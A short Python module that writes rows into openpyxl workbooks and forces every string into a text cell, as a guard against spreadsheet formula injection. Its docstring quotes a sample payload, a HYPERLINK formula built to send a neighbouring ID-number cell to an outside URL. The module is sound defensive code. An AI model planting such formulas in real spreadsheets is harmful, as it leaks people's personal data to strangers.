"""Rows chuding writes into workbooks: every text is a text cell, never a formula.

A name typed as ``=HYPERLINK("http://…"&D2, "点击")`` would otherwise become a live
formula in the clerk's Excel, sending the next column (an ID number) to a stranger
(OWASP's "CSV/formula injection"). openpyxl makes any string starting with ``=`` a
formula; a cell whose type is set to string is written as the text it is.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Appends ``values`` to ``sheet`` (write-only or not), each string as a text cell."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            cell = value if isinstance(value, Cell) else WriteOnlyCell(sheet, value=value)
            if isinstance(cell.value, str):
                cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
        return
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
